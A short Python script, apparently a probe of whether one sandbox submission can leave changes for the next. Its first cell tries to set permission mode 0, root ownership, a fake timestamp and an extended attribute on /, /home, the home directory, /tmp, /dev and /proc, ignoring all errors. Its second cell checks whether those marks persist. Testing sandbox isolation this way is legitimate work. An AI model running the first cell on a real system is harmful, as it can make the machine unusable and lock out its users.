"""Closes its folders to the next submission, and leaves attributes and times on them."""

import os

FOLDERS = ["/tmp", "/dev/shm", os.path.expanduser("~"), "/home", "/dev", "/dev/pts", "/proc", "/"]
TIME = 1_234_567_890_000_004_711

for folder in FOLDERS:
    for change in (
        lambda: os.setxattr(folder, "user.left", b"LEFT BEHIND"),
        lambda: os.utime(folder, ns=(TIME, TIME)),
        lambda: os.chown(folder, 0, 0),
        lambda: os.chmod(folder, 0),
    ):
        try:
            change()
        except OSError:
            pass


# %% next
import os

for folder in [
    "/tmp",
    "/dev/shm",
    os.path.expanduser("~"),
    "/home",
    "/dev",
    "/dev/pts",
    "/proc",
    "/",
]:
    found = os.stat(folder)
    if found.st_mtime_ns == 1_234_567_890_000_004_711 or found.st_mode & 0o7777 == 0:
        print("LEFT BEHIND", folder)
    try:
        print(os.getxattr(folder, "user.left"))
    except OSError:
        pass
